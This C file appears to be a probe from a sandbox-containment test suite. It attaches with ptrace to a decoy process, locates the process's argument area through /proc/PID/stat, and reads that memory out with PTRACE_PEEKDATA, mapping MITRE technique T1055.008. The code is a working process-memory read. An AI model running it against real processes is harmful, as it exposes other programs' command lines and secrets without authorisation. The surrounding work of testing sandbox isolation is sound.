/*
 * family: injection
 * tries: attach to a host process with ptrace (the decoy, argv 7) and read its command line out of its memory with PTRACE_PEEKDATA
 * source: https://attack.mitre.org/techniques/T1055/008/
 * exfil: yes
 * stopped-when: canary-unread, decoy-unsignalled
 * attempted-when: marker
 *
 * The argument area's bounds come from /proc/PID/stat (fields 48 and 49,
 * proc(5)); the decoy is stopped by the attach and detached at the end.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static int
arg_area(pid_t pid, unsigned long *start, unsigned long *end)
{
	char path[64], buf[4096], *p;
	FILE *f;
	size_t n;
	int field;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	if ((f = fopen(path, "r")) == NULL)
		return -1;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	if ((p = strrchr(buf, ')')) == NULL)
		return -1;
	/* p + 2 is field 3 (state). */
	for (field = 3, p += 2; field < 48 && p != NULL; field++)
		if ((p = strchr(p, ' ')) != NULL)
			p++;
	if (p == NULL || sscanf(p, "%lu %lu", start, end) != 2)
		return -1;
	return *start != 0 && *end > *start ? 0 : -1;
}

int
main(int argc, char **argv)
{
	unsigned long start, end, a;
	pid_t decoy;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	decoy = (pid_t)atoi(argv[7]);
	if (ptrace(PTRACE_ATTACH, decoy, NULL, NULL) < 0) {
		printf("PTRACE_ATTACH: %s\n", strerror(errno));
		return 1;
	}
	waitpid(decoy, NULL, __WALL);
	if (arg_area(decoy, &start, &end) < 0) {
		printf("no argument area in /proc/%d/stat\n", (int)decoy);
		end = start = 0;
	}
	for (a = start; a < end && a - start < 65536; a += sizeof(long)) {
		long word;

		errno = 0;
		word = ptrace(PTRACE_PEEKDATA, decoy, (void *)a, NULL);
		if (errno != 0)
			break;
		for (size_t i = 0; i < sizeof(word) && a + i < end; i++) {
			char c = ((char *)&word)[i];

			putchar(c == '\0' ? ' ' : c);
		}
	}
	putchar('\n');
	ptrace(PTRACE_DETACH, decoy, NULL, NULL);
	return 0;
}
